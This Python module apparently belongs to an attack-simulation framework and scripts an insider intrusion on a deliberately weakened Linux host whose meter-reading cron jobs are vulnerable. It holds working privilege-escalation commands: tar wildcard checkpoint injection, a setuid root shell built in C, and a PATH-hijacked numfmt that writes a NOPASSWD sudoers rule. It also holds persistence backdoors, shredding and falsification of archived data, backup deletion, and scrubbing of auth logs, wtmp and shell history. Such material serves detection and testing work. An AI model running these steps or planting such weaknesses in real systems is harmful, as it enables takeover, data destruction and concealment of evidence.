"""Somebody of the house with a small account makes root's cron jobs work for him, and spoils old readings."""

from __future__ import annotations

from typing import TYPE_CHECKING

from plot import Storyline
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder

WHO, WORD = "tnowicki", "Copper.Kettle7"

WEAKEN = r"""
set -e
getent group meter >/dev/null || groupadd meter
id -u tnowicki >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'T. Nowicki, metering' -G meter tnowicki
echo 'tnowicki:Copper.Kettle7' | chpasswd
install -d -m 2775 -g meter /srv/meter /srv/meter/inbox /srv/meter/bin
install -d -m 755 /srv/meter/archive /var/backups/meter
for year in 2021 2022 2023 2024 2025; do
    mkdir -p /srv/meter/archive/$year
    for q in 1 2 3 4; do
        awk -v s="$year$q" 'BEGIN{srand(s); for(i=0;i<300;i++) printf "%d;%d;%.2f\n", s, 100+i%40, rand()*60}' \
            > /srv/meter/archive/$year/q$q.csv
    done
done
for flat in 11 12 13 14; do seq 1 30 | sed "s/^/flat-$flat;/" > /srv/meter/inbox/flat-$flat.csv; done
cat > /srv/meter/bin/tally <<'EOF'
#!/bin/sh
# counts the readings that came in
wc -l /srv/meter/inbox/*.csv | tail -1 >> /var/log/meter-tally
EOF
cat > /usr/local/sbin/meter-rollup <<'EOF'
#!/bin/sh
# sums of the year before, written for people
for file in /srv/meter/archive/2025/*.csv; do
    awk -F';' '{s+=$3} END{print s}' "$file" | numfmt --format '%.1f'
done > /var/log/meter-rollup
EOF
chmod 775 /srv/meter/bin/tally; chgrp meter /srv/meter/bin/tally; chmod 755 /usr/local/sbin/meter-rollup
cat > /etc/cron.d/meter <<'EOF'
PATH=/srv/meter/bin:/usr/sbin:/usr/bin:/sbin:/bin
* * * * *   root      cd /srv/meter/inbox && tar -czf /var/backups/meter/inbox.tgz *
* * * * *   root      /srv/meter/bin/tally
* * * * *   root      /usr/local/sbin/meter-rollup
*/4 * * * * tnowicki  date +\%s';reading' >> /srv/meter/inbox/flat-11.csv
EOF
chmod 644 /etc/cron.d/meter
"""

BY_TAR = r"""
== look round | TA0007 | What runs by itself here, as whom, and where.
T1033 id
T1053.003 cat /etc/cron.d/meter
T1083 ls -la /srv/meter /srv/meter/inbox /var/backups/meter
? T1082 cat /etc/os-release | head -2; uname -r
? T1083 find / -xdev -perm -4000 -o -perm -2000 -type f 2>/dev/null | head -30
T1083 /usr/sbin/getcap -r /usr/bin /usr/sbin 2>/dev/null
T1069.001 sudo -l
== the star | TA0004 | Two file names that tar takes for options, in the folder that root packs each minute.
T1059.004 cd /srv/meter/inbox; printf '#!/bin/sh\ncp /usr/bin/perl /srv/meter/bin/{file}\n/usr/sbin/setcap\
 cap_setuid+ep /srv/meter/bin/{file}\n' > {word}.sh
T1222.002 chmod +x {word}.sh
T1053.003 @plant /srv/meter/inbox/{word}.sh
T1053.003 touch -- --checkpoint=1 '--checkpoint-action=exec=$PWD${HOME%root}{word}.sh'
T1083 ls -l
@wait
T1548 /usr/sbin/getcap /srv/meter/bin/{file}
T1070.004 rm -- ./--checkpoint*; rm {word}.sh
== root | TA0004 | A copy of Perl may change its user.
T1548 /srv/meter/bin/{file} -e 'print $<'
T1548 /srv/meter/bin/{file} -MPOSIX -e 'setuid(0); exec "/bin/bash"'
T1033 id; cd /root
T1003.008 grep -v '[*!]' /etc/shadow | cut -c1-40
T1552.004 ls -la /root/.ssh
== staying | TA0003 | The copy moves to a folder where nobody looks.
T1548 install -d /usr/lib/meter; mv /srv/meter/bin/{file} /usr/lib/meter/{file}; /usr/sbin/setcap\
 cap_setuid,cap_dac_override+ep /usr/lib/meter/{file}
T1548.001 cp /bin/bash /usr/lib/meter/sh.real; chmod 4755 /usr/lib/meter/sh.real
T1070.006 touch -r /usr/lib/os-release /usr/lib/meter/* /usr/lib/meter
== old readings | TA0040 | The years 2021 and 2022 are overwritten and deleted, and the copy of the inbox too.
T1083 du -sh /srv/meter/archive/*
T1485 shred -n 1 -u /srv/meter/archive/2021/*.csv
T1485 rm -rfv /srv/meter/archive/2022 | tail -2
T1490 rm -f /var/backups/meter/inbox.tgz
== no traces | TA0005 | Lines in logs, the history and times.
T1070.002 sed -i '/tnowicki/d' /var/log/auth.log
T1070.002 : > /var/log/lastlog; : > /var/log/wtmp
T1070.003 rm -f /home/tnowicki/.bash_history; history -c
? T1070.006 touch -d '2026-08-03 07:12' /srv/meter/archive
T1033 exit
T1070.003 unset HISTFILE
"""

BY_SCRIPT = r"""
== look round | TA0007 | Files that others run and he may change.
T1083 ls -l /srv/meter/bin /usr/local/sbin
T1083 find /srv /opt /usr/local /etc -writable -type f 2>/dev/null | grep -v '^/proc' | head -20
? T1033 w; who -b
T1053.003 grep -rhv '^#' /etc/cron.d /etc/crontab
? T1057 ps -ef --forest | tail -20
T1007 service --status-all 2>/dev/null | head
T1518 gcc --version | head -1
== a helper | TA0004 | A small program in C is to become root's; the script that counts readings sees to it.
T1027.004 printf '#include <unistd.h>\nint main(void){setgid(0);setuid(0);char*a[]={"bash","-p",0};return\
 execv("/bin/bash",a);}\n' > ~/{word}.c
T1027.004 gcc -O2 -s -o ~/{file} ~/{word}.c; ls -l ~/{file}
T1059.004 mkdir -p /srv/meter/.d; printf '#!/bin/bash\nchown root:root /home/tnowicki/{file}\nchmod 6755\
 /home/tnowicki/{file}\n' > /srv/meter/.d/{word}
T1222.002 chmod a+rx /srv/meter/.d/{word}
T1053.003 @plant /srv/meter/.d/{word}
T1554 cp -p /srv/meter/bin/tally ~/.t; printf '[ -x /srv/meter/.d/{word} ] && /srv/meter/.d/{word}\n' >>\
 /srv/meter/bin/tally
@wait
T1548.001 stat -c '%U %a' ~/{file}
T1554 cat ~/.t > /srv/meter/bin/tally; touch -r ~/.t /srv/meter/bin/tally; rm -r ~/.t /srv/meter/.d ~/{word}.c
== root | TA0004 | The helper gives a shell of root.
T1548.001 ~/{file}
T1033 whoami; id -G
T1087.001 awk -F: '($3==0||$3>=1000){print $1}' /etc/passwd
T1003.008 cp /etc/shadow /home/tnowicki/.cache-s; wc -l /home/tnowicki/.cache-s
== staying | TA0003 | The helper under an ordinary name among the system's own.
T1036.005 mkdir -p /usr/libexec/meter; mv /home/tnowicki/{file} /usr/libexec/meter/pt_chown; ls -l /usr/libexec/meter
T1564.001 mv /home/tnowicki/.cache-s /usr/libexec/meter/.s
== old readings | TA0040 | First a few values are changed, then two years are emptied.
T1565.001 sed -i 's/;1[0-9]\./;2./' /srv/meter/archive/2024/q3.csv
T1565.001 awk -F';' 'NR%7' /srv/meter/archive/2024/q4.csv > /tmp/{word}.q; cat /tmp/{word}.q >\
 /srv/meter/archive/2024/q4.csv; rm /tmp/{word}.q
T1485 for f in /srv/meter/archive/2023/*; do dd if=/dev/zero of=$f bs=4k count=3 conv=notrunc status=none; done
T1485 find /srv/meter/archive/2023 -type f -delete
? T1490 rm /var/backups/meter/*
== no traces | TA0005 | Times like before, a log without his name.
T1070.006 touch -t 202504011207 /srv/meter/archive/2024/q3.csv /srv/meter/archive/2024/q4.csv /srv/meter/archive/2023
T1070.002 perl -ni -e 'print unless /tnowicki/' /var/log/auth.log
? T1070.002 tail -1 /var/log/syslog; truncate -s 0 /var/log/meter-tally
T1070.006 touch -r /usr/libexec /usr/libexec/meter /usr/libexec/meter/pt_chown
T1033 exit
T1070.003 history -c; unset HISTFILE
"""

BY_PATH = r"""
== look round | TA0007 | A look at root's cron jobs, as anybody may take.
T1053.003 cat /etc/cron.d/meter
T1083 cat /usr/local/sbin/meter-rolup
T1083 cat /usr/local/sbin/meter-rollup
T1033 id; who
T1069.001 groups; sudo -n true
T1083 ls -ld /srv/meter/bin
== first in the path | TA0004 | The job's path begins with a folder of his group; he puts a numfmt of his own there.
T1574.007 printf '#!/bin/sh\n[ -f /etc/sudoers.d/{word} ] || { umask 227; echo "tnowicki ALL=(ALL) NOPASSWD: ALL"\
 > /etc/sudoers.d/{word}; }\nexec /usr/bin/numfmt "$@"\n' > /srv/meter/bin/numfmt
T1222.002 chmod 755 /srv/meter/bin/numfmt
T1574.007 @plant /srv/meter/bin/numfmt
@wait
T1069.001 sudo -n -l
T1070.004 rm /srv/meter/bin/numfmt
== root | TA0004 | From here he works as an administrator does.
T1548.003 sudo -i
T1654 tail -n 5 /var/log/syslog
T1057 ps aux --sort=-start_time | head -8
T1680 df -h /srv /var; du -sh /srv/meter/archive
? T1087.001 getent passwd | tail -3
== staying | TA0003 | One more account in the group of administrators.
T1136.001 useradd -m -s /bin/bash -c 'meter service' -G sudo mtrsvc{digit}
T1098 echo 'mtrsvc{digit}:Brass.Valve{digit}' | chpasswd
T1078.003 su - mtrsvc{digit} -c 'id; groups'
T1548.001 cp /usr/bin/env /usr/local/sbin/{file}; chmod u+s /usr/local/sbin/{file}
== old readings | TA0040 | One year is made empty.
T1083 ls -l /srv/meter/archive/2025
T1485 truncate -s 0 /srv/meter/archive/2025/q1.csv /srv/meter/archive/2025/q2.csv
T1485 rm /srv/meter/archive/2025/q4.csv
T1489 pkill -u nobody -f meter-feed
== no traces | TA0005 | The rule and the history go.
T1070.006 touch -d yesterday /srv/meter/archive/2025/q1.csv /srv/meter/archive/2025/q2.csv
T1070.004 rm /etc/sudoers.d/{word}
T1070.003 history -c
T1033 exit
? T1070.003 rm -f .bash_history
"""


def play(own: Intruder) -> None:
    middle = (2.5, 7.0, 20.0)[own.variant]
    file = own.pick((("feedperl", "plx"), ("mreadout", "flatio"), ("meter-env", "mrun"))[own.variant])
    names = {"word": a_name(own), "file": file, "digit": str(own.rng.randint(2, 9))}
    own.step("the own account", "TA0001", "A colleague logs on with his own small account, in working hours.")
    shell = own.ssh(own.entry, WHO, password=WORD, technique="T1078.003")
    before, waits, after = (BY_TAR, BY_SCRIPT, BY_PATH)[own.variant].partition("@wait\n")
    assert waits
    walk(own, before, shell, names, middle, WORD)
    own.rest(64)  # root's jobs come round each minute
    walk(own, after, shell, names, middle, WORD)
    shell.close()


STORYLINE = Storyline(
    name="wildcard-insider",
    split="test",
    words="A colleague with a small account finds that root's cron jobs pack a folder of his group with a star, run a "
    "script his group may change, or search a folder of his group first. He becomes root, leaves a way back, spoils "
    "old meter readings and cleans logs and times.",
    weaken=WEAKEN,
    play=play,
    hosts=("mill-13", "quay-12"),
    minutes=15,
)
